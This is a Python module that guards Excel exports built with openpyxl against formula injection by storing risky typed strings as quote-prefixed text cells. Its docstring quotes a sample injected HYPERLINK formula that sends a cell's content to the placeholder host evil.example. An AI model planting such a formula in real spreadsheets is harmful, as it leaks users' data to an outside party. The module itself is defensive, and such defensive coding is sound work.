"""Excel exports write what people typed as text, never as a formula.

openpyxl stores any string that starts with "=" as a formula, so a request
reading ``=HYPERLINK("http://evil.example/?"&B2, "点击查看")`` would become a live
link (or a data-leaking formula) in the secretary's file. Spreadsheet programs
also treat "+", "-", "@", a tab or a carriage return at the start of a typed cell
as the start of a formula. Every export appends its rows through
``append_row``: such a string is kept as a string cell (``data_type`` "s", so it
is written as text, not as ``<f>``) with Excel's quote-prefix flag, so the cell
shows exactly what the person typed and stays text when someone edits it. An
apostrophe is not prepended: it would show in the cell and change the text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(sheet: Worksheet, value: Any) -> Any:
    """``value`` ready for ``sheet.append``: a risky string becomes a plain-text cell."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, value=value)
    # openpyxl guessed "f" for "=..." and "e" for "#N/A" and the like.
    if cell.data_type == "s" and not value.startswith(FORMULA_STARTS):
        return value
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append one row whose strings are all text (see the module docstring)."""
    sheet.append([text_cell(sheet, value) for value in values])
